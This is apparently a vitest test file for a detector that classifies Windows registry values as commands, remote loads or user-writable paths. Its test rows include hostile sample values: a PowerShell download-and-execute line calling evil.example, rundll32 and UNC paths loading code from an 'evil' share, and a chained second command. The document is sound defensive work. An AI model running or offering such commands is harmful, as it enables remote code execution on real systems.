import { expect, it } from 'vitest';
import { readCommand } from '../../functions/alert/detection/command.ts';

type Row = readonly [type: string | null, data: readonly string[], program: string | null, flags: string];

const rows: readonly Row[] = [
  ['REG_SZ', ['C:\\Users\\Public\\up.exe -s'], 'C:\\Users\\Public\\up.exe', 'command writable'],
  ['REG_SZ', ['"C:\\Program Files\\A B\\x.exe" /quiet'], 'C:\\Program Files\\A B\\x.exe', 'command'],
  ['REG_SZ', ['C:\\Program Files\\A B\\x.exe /quiet'], null, 'command'],
  ['REG_SZ', ['C:\\Windows\\notepad.exe'], 'C:\\Windows\\notepad.exe', 'command'],
  ['REG_EXPAND_SZ', ['%SystemRoot%\\system32\\x.dll'], null, 'command'],
  ['REG_SZ', ['rundll32.exe a.dll,Main'], null, 'command'],
  ['REG_SZ', ['C:\\a.exe & C:\\b.exe'], null, 'command'],
  ['REG_SZ', ['explorer.exe,C:\\evil.exe'], null, 'command'],
  ['REG_SZ', ['C:\\ProgramData\\..\\Windows\\x.exe'], 'C:\\ProgramData\\..\\Windows\\x.exe', 'command'],
  ['REG_SZ', ['\\\\evil\\share\\x.exe'], '\\\\evil\\share\\x.exe', 'command remote'],
  ['REG_SZ', ['rundll32 \\\\evil@SSL\\dav\\x.dll,A'], null, 'command remote'],
  ['REG_SZ', ['powershell iex(iwr http://evil.example/a)'], null, 'command remote'],
  ['REG_SZ', ['\\\\?\\C:\\x.exe'], null, 'command remote'],
  ['REG_MULTI_SZ', ['C:\\good.exe', '//evil/share/x.exe'], null, 'command remote'],
  ['REG_DWORD', ['1'], null, ''],
  ['SZ_DWORD', ['0x1'], null, ''],
  ['REG_SZ', [''], null, 'command'],
  [null, ['D:\\x.exe'], 'D:\\x.exe', 'command'],
];

it.each(rows)('%s %j runs %s (%s)', (type, data, program, flags) => {
  const command = readCommand(type, data);
  const set = [
    command.isCommand && 'command',
    command.isRemote && 'remote',
    command.isUserWritable && 'writable',
  ];
  expect([command.program, set.filter(Boolean).join(' ')]).toEqual([program, flags]);
});
